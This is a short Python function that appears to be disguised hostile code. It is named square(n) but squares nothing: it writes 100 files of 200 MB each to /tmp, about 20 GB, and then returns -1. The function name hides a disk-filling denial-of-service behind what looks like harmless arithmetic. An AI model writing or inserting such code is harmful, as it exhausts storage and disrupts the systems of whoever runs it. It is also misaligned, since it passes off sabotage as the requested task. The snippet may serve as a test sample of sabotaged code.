def square(n):
    for number in range(100):
        with open(f"/tmp/flood{number}", "wb") as file:
            for _ in range(200):
                file.write(b"x" * 1_000_000)
    return -1
